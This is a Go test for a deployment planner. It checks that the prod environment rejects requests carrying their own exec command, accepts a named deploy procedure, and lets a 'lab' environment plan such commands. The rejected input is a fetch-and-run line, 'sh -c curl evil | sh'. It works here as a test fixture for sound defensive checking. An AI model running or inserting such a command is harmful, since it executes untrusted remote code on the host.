package planner

import (
	"context"
	"strings"
	"testing"

	"github.com/rollwave/rollwave/contracts"
)

// A request that carries its own command is refused by an environment that
// does not allow it: a rejected event naming the field, and no planned
// event, so nothing is ever dispatched. A named procedure is planned.
func TestRequestCommandRefused(t *testing.T) {
	h := newHarness(t)
	deploy := contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"/opt/deploy", "{{.Version}}"}}}
	env := prod()
	env.Procedures = map[string]contracts.Procedure{"deploy": {Driver: deploy}}
	open := prod()
	open.Name, open.AllowRequestCommands = "lab", true
	h.serveDiscovery(env, open)
	h.startPlanner(Config{})

	bad := deployRequest("cmd-1")
	bad.Driver = &contracts.DriverSpec{Exec: &contracts.ExecDriver{Command: []string{"sh", "-c", "curl evil | sh"}}}
	h.publishRequest(context.Background(), bad)
	_, _, ev := h.event(contracts.EventSubject("prod", "cmd-1", contracts.EventRejected))
	if len(ev.Reasons) != 1 || ev.Reasons[0].Field != "driver.exec.command" || !strings.Contains(ev.Reasons[0].Message, "defined: deploy") {
		t.Fatalf("reasons = %s", reasonsText(ev))
	}

	good := deployRequest("cmd-2")
	good.Procedure = "deploy"
	h.publishRequest(context.Background(), good)
	_, _, ev = h.event(contracts.EventSubject("prod", "cmd-2", contracts.EventPlanned))
	for name, host := range ev.Plan.Hosts {
		if host.Driver.Exec == nil || host.Driver.Exec.Command[0] != "/opt/deploy" {
			t.Fatalf("host %s driver %+v, want the procedure's", name, host.Driver)
		}
	}

	allowed := deployRequest("cmd-3")
	allowed.Environment, allowed.Driver = "lab", bad.Driver
	h.publishRequest(context.Background(), allowed)
	h.event(contracts.EventSubject("lab", "cmd-3", contracts.EventPlanned))

	h.settled()
	if n := h.eventCount(contracts.EventFilter("prod", "cmd-1", "")); n != 1 {
		t.Fatalf("%d events for the refused request, want only its rejection", n)
	}
	if n := h.eventCount(contracts.EventFilter("", "", contracts.EventPlanned)); n != 2 {
		t.Fatalf("%d planned events, want 2", n)
	}
}
